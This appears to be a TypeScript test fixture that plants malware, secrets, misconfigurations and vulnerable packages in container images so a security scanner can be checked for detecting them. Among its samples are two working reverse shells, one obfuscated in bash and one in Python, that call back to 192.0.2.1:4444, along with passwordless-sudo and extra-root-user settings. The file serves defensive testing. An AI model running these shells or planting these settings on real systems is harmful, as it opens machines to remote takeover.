/** Files planted in images, each with the finding that a scan must report; and harmless lookalikes. */

import { elfWith, goBuildInfo, rustSection } from '../src/scanner/inventory/elf/elf.fixture.ts';
import { samples } from '../src/scanner/malware/samples.fixture.ts';
import { randomFrom, sampleOf } from '../src/scanner/patterns/sample.fixture.ts';
import { readRulesFiles } from '../src/scanner/rules/rules-files.ts';
import { loadSecretRules } from '../src/scanner/secrets/rules.ts';
import { zip } from './zip.ts';

export type Kind = 'malware' | 'secret' | 'misconfiguration' | 'vulnerability' | 'gap';

export interface Planted {
  readonly kind: Kind;
  /** The expected finding, as id and place. Undefined: the scan must report nothing. */
  readonly expected?: string;
  readonly path: string;
  readonly content: string | Buffer;
  readonly mode?: number;
}

/** One package per ecosystem, in versions 1.0.0 and 2.0.0; all versions before 2.0.0 are vulnerable. */
const packages: readonly (readonly [
  ecosystem: string,
  name: string,
  purl: string,
  file: (version: string) => Promise<readonly [path: string, content: string | Buffer]>,
])[] = [
  [
    'npm',
    'planted-package',
    'pkg:npm/planted-package@',
    async (version) => [
      `app/${version}/node_modules/planted-package/package.json`,
      JSON.stringify({ name: 'planted-package', version }),
    ],
  ],
  [
    'PyPI',
    'planted-package',
    'pkg:pypi/planted-package@',
    async (version) => [
      `usr/local/lib/python3.13/site-packages/planted_package-${version}.dist-info/METADATA`,
      `Metadata-Version: 2.1\nName: planted-package\nVersion: ${version}\n`,
    ],
  ],
  [
    'Maven',
    'org.planted:planted-package',
    'pkg:maven/org.planted/planted-package@',
    async (version) => [
      `app/lib/planted-package-${version}.jar`,
      await zip({
        'META-INF/maven/org.planted/planted-package/pom.properties': `groupId=org.planted\nartifactId=planted-package\nversion=${version}\n`,
        'org/planted/A.class': 'x',
      }),
    ],
  ],
  [
    'Go',
    'example.org/planted',
    'pkg:golang/example.org/planted@v',
    async (version) => [
      `usr/local/bin/go-${version}`,
      elfWith({
        '.go.buildinfo': goBuildInfo(
          'go1.24.1',
          `path\tapp\nmod\tapp\tv0.1.0\t\ndep\texample.org/planted\tv${version}\th1:x=\n`,
        ),
      }),
    ],
  ],
  [
    'crates.io',
    'planted-package',
    'pkg:cargo/planted-package@',
    async (version) => [
      `usr/local/bin/rust-${version}`,
      elfWith({
        '.dep-v0': rustSection({
          packages: [{ name: 'planted-package', version, source: 'crates.io', kind: 'runtime' }],
        }),
      }),
    ],
  ],
  [
    'RubyGems',
    'planted-package',
    'pkg:gem/planted-package@',
    async (version) => [
      `usr/local/bundle/specifications/planted-package-${version}.gemspec`,
      `Gem::Specification.new do |s|\n  s.name = "planted-package".freeze\n  s.version = "${version}"\nend\n`,
    ],
  ],
  [
    'Packagist',
    'planted/package',
    'pkg:composer/planted/package@',
    async (version) => [
      `srv/${version}/vendor/composer/installed.json`,
      JSON.stringify({ packages: [{ name: 'planted/package', version }] }),
    ],
  ],
  [
    'Debian:13',
    'planted-package',
    'pkg:deb/debian/planted-package@',
    async (version) => [
      `var/lib/dpkg/status.d/planted-${version}`,
      `Package: planted-package\nStatus: install ok installed\nVersion: ${version}\nArchitecture: all\n`,
    ],
  ],
];

/** OSV records for those packages, and for a package of npm that is known to be malicious. */
export const advisories: readonly object[] = [
  ...packages.map(([ecosystem, name], at) => ({
    id: `TEST-2026-${at}`,
    modified: new Date().toISOString(),
    summary: `all before 2.0.0 of ${name}`,
    affected: [
      {
        package: { ecosystem, name },
        ranges: [
          {
            type: ecosystem === 'Debian:13' ? 'ECOSYSTEM' : 'SEMVER',
            events: [{ introduced: '0' }, { fixed: '2.0.0' }],
          },
        ],
      },
    ],
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' }],
  })),
  {
    id: 'MAL-2026-1',
    modified: new Date().toISOString(),
    affected: [
      {
        package: { ecosystem: 'npm', name: 'planted-malice' },
        ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }] }],
      },
    ],
  },
];

async function vulnerablePackages(): Promise<readonly Planted[]> {
  const all = packages.flatMap(([, , purl, file], at) =>
    ['1.0.0', '2.0.0'].map(async (version): Promise<Planted> => {
      const [path, content] = await file(version);
      const expected = version === '1.0.0' ? { expected: `TEST-2026-${at} ${purl}${version}` } : {};
      return { kind: 'vulnerability', path, content, mode: 0o755, ...expected };
    }),
  );
  return [
    ...(await Promise.all(all)),
    {
      kind: 'vulnerability',
      expected: 'TEST-2026-0 pkg:npm/planted-package',
      path: 'app/none/node_modules/planted-package/package.json',
      content: '{"name":"planted-package"}',
    },
    // Invented, so no advisory knows its name.
    { kind: 'vulnerability', path: 'app/own/node_modules/own/package.json', content: '{"name":"own"}' },
    { kind: 'vulnerability', path: 'app/own/node_modules/own/index.js', content: 'exports.a = 1;' },
  ];
}

function malware(): readonly Planted[] {
  const known = samples().map(({ rule, path, content }) => ({ rule, path, content }));
  const eicar = known.find(({ rule }) => rule === 'antivirus-test-file')?.content ?? '';
  const told = known.map(
    ({ rule, path, content }): Planted => ({ kind: 'malware', expected: `${rule} ${path}`, path, content }),
  );
  return [
    ...told,
    // This one is also found by its digest.
    { kind: 'malware', expected: 'denied-hash tmp/eicar.txt', path: 'tmp/eicar.txt', content: eicar },
    {
      kind: 'malware',
      expected: 'MAL-2026-1 app/node_modules/planted-malice/package.json',
      path: 'app/node_modules/planted-malice/package.json',
      content: '{"name":"planted-malice","version":"1.0.0"}',
    },
    ...missedMalware.map(
      ([rule, path, content]): Planted => ({ kind: 'malware', expected: `${rule} ${path}`, path, content }),
    ),
    ...harmless.map(([path, content]): Planted => ({ kind: 'malware', path, content })),
  ];
}

/** Malware that no rule finds today: assembled at run time, or hidden by its own cipher. */
const missedMalware: readonly (readonly [rule: string, path: string, content: string])[] = [
  [
    'reverse-shell-bash',
    'opt/m/joined.sh',
    '#!/bin/sh\nA=/dev/t; B=cp/192.0.2.1/4444\neval "ba""sh -i >& $A$B 0>&1"\n',
  ],
  [
    'reverse-shell-python',
    'opt/m/names.py',
    'import socket as s, os as o, pty as p\nc = s.create_connection(("192.0.2.1", 4444))\nfor f in range(3): o.dup2(c.fileno(), f)\np.spawn("/bin/sh")\n',
  ],
  [
    'decoded-and-run',
    'opt/m/xor.py',
    'k = 23\nd = [103, 101, 126, 121, 99]\nexec("".join(chr(b ^ k) for b in d))\n',
  ],
];

const harmless: readonly (readonly [path: string, content: string])[] = [
  ['opt/h/backup.sh', '#!/bin/bash\nnc -z db 5432 && curl -fsS https://backup.corp.io/ok\n'],
  ['opt/h/client.py', 'import socket\ns = socket.create_connection(("db", 5432))\ns.sendall(b"hello")\n'],
  ['opt/h/wait.sh', '#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n'],
  ['etc/cron.d/rotate', '5 4 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n'],
  ['opt/h/eval.js', 'const f = new Function("a", "return a + 1"); module.exports = f;\n'],
];

/** A secret for each rule, where the rule looks; and lookalikes. */
function secrets(): readonly Planted[] {
  const { rules, texts } = loadSecretRules(readRulesFiles().secrets);
  const told = rules.map(({ id, pattern }, at): Planted => {
    const [glob = 'app/main.js'] = texts[at]?.paths ?? [];
    const base = glob === '$settings' ? '.env' : glob.replace('**/', '').replaceAll('*', 'x');
    const path = glob.startsWith('etc/') ? glob : `srv/t/${id}/${base}`;
    const content = `line one\n${sampleOf(pattern, randomFrom(at * 7919 + 1))}\n`;
    return { kind: 'secret', expected: `${id} ${path}`, path, content };
  });
  return [
    ...told,
    {
      kind: 'secret',
      expected: 'setting-secret app/notes.txt',
      path: 'app/notes.txt',
      content: 'The root password is Tr0ub4dor&3x.\n',
    },
    ...examples.map(([path, content]): Planted => ({ kind: 'secret', path, content })),
  ];
}

const examples: readonly (readonly [path: string, content: string])[] = [
  ['app/e/a.js', `const id = "AKIA${'IOSFODNN7EXAMPLE'}";\n`],
  ['app/e/.env', `DB_PASSWORD=changeme\nAPI_TOKEN=\${API_TOKEN}\n`],
  ['app/e/b.yaml', 'password: <your password>\ntoken: "****************"\n'],
  ['app/e/c.py', 'url = "postgres://john:S3nsit1ve@db.example.com/x"\n'],
  [
    'app/e/public.pem',
    '-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\n-----END PUBLIC KEY-----\n',
  ],
];

const misconfigurations: readonly Planted[] = (
  [
    ['setuid-file', 'usr/local/bin/nmap', '', 0o4755],
    ['setuid-file', 'opt/c/x', '', 0o2755],
    ['executable-in-temporary-folder', 'tmp/c/b', '', 0o755],
    ['writable-program', 'usr/local/bin/w', '', 0o777],
    ['sudo-in-image', 'usr/bin/doas', '', 0o755],
    ['sudo-without-password', 'etc/sudoers.d/app', 'app ALL=(ALL) NOPASSWD: ALL\n', 0o440],
    ['ssh-server-in-image', 'usr/sbin/sshd', '', 0o755],
    ['ssh-lets-root-in', 'etc/ssh/sshd_config', 'Port 22\nPermitRootLogin yes\n', 0o644],
    ['version-control-in-image', 'app/.git/config', '[core]\n', 0o644],
    ['extra-root-user', 'etc/passwd', 'root:x:0:0::/root:/bin/sh\nmysql:x:0:0::/:/bin/sh\n', 0o644],
    ['empty-password', 'etc/shadow', 'root:*:1::::::\nguest::1::::::\n', 0o640],
    [undefined, 'usr/local/bin/plain', '', 0o755],
    [undefined, 'etc/sudoers', 'root ALL=(ALL) ALL\n', 0o440],
    [undefined, 'tmp/notes.txt', '', 0o644],
  ] as const
).map(([id, path, content, mode]) => ({
  kind: 'misconfiguration',
  path,
  content,
  mode,
  ...(id !== undefined && { expected: `${id} ${path}` }),
}));

async function gaps(): Promise<readonly Planted[]> {
  const locked = await zip({ 'a.txt': 'locked' });
  // The bit for encryption, in the local header and in the directory.
  locked.writeUInt16LE(locked.readUInt16LE(6) | 1, 6);
  const directory = locked.indexOf('PK\x01\x02', 0, 'latin1');
  locked.writeUInt16LE(locked.readUInt16LE(directory + 8) | 1, directory + 8);
  return [
    {
      kind: 'gap',
      expected: 'opt/g/a.7z',
      path: 'opt/g/a.7z',
      content: Buffer.from("7z\xbc\xaf'\x1c\0\x04", 'latin1'),
    },
    { kind: 'gap', expected: 'opt/g/locked.zip!/a.txt', path: 'opt/g/locked.zip', content: locked },
    {
      kind: 'gap',
      expected: 'opt/g/cut.tgz',
      path: 'opt/g/cut.tgz',
      content: Buffer.from('1f8b0800000000000003edcf', 'hex'),
    },
    {
      kind: 'gap',
      expected: 'app/bare/node_modules/x',
      path: 'app/bare/node_modules/x/index.js',
      content: 'run()',
    },
    { kind: 'gap', path: 'opt/g/fine.zip', content: await zip({ 'a.txt': 'open' }) },
  ];
}

/** Everything, one file each. */
export async function planted(): Promise<readonly Planted[]> {
  return [
    ...malware(),
    ...secrets(),
    ...misconfigurations,
    ...(await vulnerablePackages()),
    ...(await gaps()),
  ];
}
